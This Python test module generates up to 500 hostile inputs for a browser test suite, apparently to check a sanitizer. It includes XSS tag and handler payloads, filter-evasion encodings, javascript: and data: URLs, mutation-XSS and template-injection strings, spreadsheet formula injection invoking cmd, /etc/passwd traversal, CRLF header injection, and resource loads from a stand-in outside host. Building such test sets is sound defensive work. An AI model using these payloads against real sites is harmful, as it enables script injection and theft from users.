"""Five hundred hostile texts: tags with handlers, ways out of a context, encodings, addresses, templates.

Each calls ``alert`` with its number where it runs, or asks for something of an address outside. The suite
takes each fourth of them; all: ``GDSIM_PAYLOADS_EVERY=1 pytest tests/browser/test_payloads.py``.
"""

from __future__ import annotations

import base64
import os
from collections.abc import Callable, Iterator
from itertools import islice, zip_longest
from urllib.parse import quote

ALL = 500
EVERY = int(os.environ.get("GDSIM_PAYLOADS_EVERY", "4"))
OUTSIDE = "https://outside.example"

TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
    "object data=x",
    "select autofocus",
    "textarea autofocus",
    "a href=#",
    "math",
    "style",
    "link rel=stylesheet href=x",
    "embed src=x",
    "button",
    "x contenteditable tabindex=0",
    "dialog open",
    "form id=f",
    "video><source src=x",
    "svg><animate",
    "svg><set attributeName=x",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onclick",
    "onmouseover",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
CORES: tuple[str, ...] = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    '<iframe srcdoc="<script>parent.alert({n})</script>">',
    "<a href=javascript:alert({n})>x</a>",
    f"<script src={OUTSIDE}/{{n}}.js></script>",
)
WAYS_OUT = (
    '">',
    "'>",
    "-->",
    "--!>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "</noscript>",
    "</template>",
    "]]>",
    "`>",
    '\\">',
    "</svg>",
    "*/",
    "</option></select>",
    "</p></figcaption></figure>",
    "\n\n</div>\n\n",
)
ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&lt").replace("=", "&equals;"),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):07x}" for letter in text),
    lambda text: "&amp;lt;" + text[1:],
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: text.replace("<", "< "),
    lambda text: text.replace("on", "on\u00ad"),
    lambda text: text.rstrip(">"),
    lambda text: text.replace("alert", "al\\u0065rt").replace("<script", "<ſcript"),
)
ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    " javascript:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "&#106;avascript:alert({n})",
    "javascript&colon;alert({n})",
    "javascript&#58;alert({n})",
    "\\javascript:alert({n})",
    "vbscript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,{b}",
    "blob:null/{n}",
    "//outside.example/{n}",
    "\\\\outside.example\\{n}",
    "/\\outside.example/{n}",
    "file:///etc/passwd#{n}",
    "javascript://%0aalert({n})",
    "feed:javascript:alert({n})",
    "view-source:javascript:alert({n})",
    "jar:javascript:alert({n})!/",
    "%6aavascript:alert({n})",
)
LINKS = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
    '<img src="{}">',
    "[[{}]]",
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
)
ODD = (
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "`${{alert({n})}}`",
    "#{{alert({n})}}",
    "<%= alert({n}) %>",
    "[[${{alert({n})}}]]",
    "');alert({n});//",
    '");alert({n});//',
    "\\');alert({n});//",
    "\u2028alert({n})//",
    "*/alert({n})/*",
    "</script><script>alert({n})//",
    "{{% set x = {n} %}}{{{{ x }}}}",
    "{{{{ ''.__class__.__mro__ }}}}{n}",
    "__proto__[alert]={n}",
    "constructor.prototype.{n}",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert({n})&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert({n})>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert({n})>">',
    "<table><td background=javascript:alert({n})>",
    '<xmp><p title="</xmp><img src=x onerror=alert({n})>">',
    "<form name=gdsim><input name=players value={n}></form>",
    "<img name=currentScript src=x{n}>",
    "<a id=gdsimSite href=x{n}></a><a id=gdsimSite name=receive href=y></a>",
    "<form id=document name=body>{n}",
    '<meta http-equiv=refresh content="0;url=javascript:alert({n})">',
    "<base href=https://outside.example/{n}/>",
    "<style>@import 'https://outside.example/{n}.css';</style>",
    "<link rel=prefetch href=//outside.example/{n}>",
    '<p style="background:url(https://outside.example/{n})">x</p>',
    "<style>*{{color:red}}</style>{n}",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert({n})>#x"/></svg>',
    "<svg><script href=data:,alert({n}) /></svg>",
    "<svg><foreignObject><iframe onload=alert({n})>",
    "<math href=javascript:alert({n})>x</math>",
    "$\\href{{javascript:alert({n})}}{{x}}$",
    "$\\htmlData{{onclick=alert({n})}}{{x}}$",
    "$</math><img src=x onerror=alert({n})>$",
    "$\\text{{<img src=x onerror=alert({n})>}}$",
    "```{{.x onclick=alert({n})}}\ncode\n```",
    "[x]{{: onclick=alert({n}) }}",
    "# h{n} {{: onmouseover=alert({n}) }}",
    "[^{n}]: <img src=x onerror=alert({n})>",
    '![x](x "\\" onerror=alert({n}) ")',
    '[x](# "\'><img src=x onerror=alert({n})>")',
    "`<img src=x onerror=alert({n})>`",
    "    <script>alert({n})</script>",
    "<!-- <script>alert({n})</script> -->",
    "<?xml <img src=x onerror=alert({n})>?>",
    "<![CDATA[<img src=x onerror=alert({n})>]]>",
    "<template><script>alert({n})</script></template>",
    "<portal src=https://outside.example/{n}>",
    "<video poster=javascript:alert({n})//></video>",
    "<body background=https://outside.example/{n}>",
    "<button popovertarget=p onclick=alert({n})>",
    "<input type=image src=x formaction=javascript:alert({n})>",
    "=cmd|' /C calc'!A{n}",
    "@SUM({n})*cmd|' /C calc'!A0",
    "../../../../etc/passwd%00{n}",
    "%0d%0aSet-Cookie: x={n}",
)


def payloads() -> list[str]:
    """The share of them, numbered, each of another text."""
    families = (_tags(), _contexts(), _encoded(), _addresses(), iter(ODD))
    mixed = (text for row in zip_longest(*families) for text in row if text is not None)
    return [_numbered(text, number) for number, text in enumerate(islice(mixed, ALL))][::EVERY]


def _numbered(text: str, number: int) -> str:
    script = base64.b64encode(f"<script>alert({number})</script>".encode()).decode()
    return text.format(n=number, b=script)


def _tags() -> Iterator[str]:
    for handler in HANDLERS:
        for tag in TAGS:
            yield f"<{tag} {handler}=alert({{n}})>"


def _contexts() -> Iterator[str]:
    for place, core in enumerate(CORES):
        yield from (f"{way}{core}" for way in WAYS_OUT[place % 2 :: 2])
    yield from (f"{mark} {handler}=alert({{n}}) x={mark}" for mark in "'\"`" for handler in HANDLERS[:4])


def _encoded() -> Iterator[str]:
    for encode in ENCODINGS:
        for core in CORES:
            yield encode(core.format(n=0)).replace("{", "{{").replace("}", "}}") + " {n}"


def _addresses() -> Iterator[str]:
    for place, link in enumerate(LINKS):
        yield from (link.format(address) for address in ADDRESSES[place % 2 :: 2])


def grouped(texts: list[str], size: int) -> list[list[str]]:
    """Lists of ``size``, the last may be shorter."""
    return [texts[at : at + size] for at in range(0, len(texts), size)]
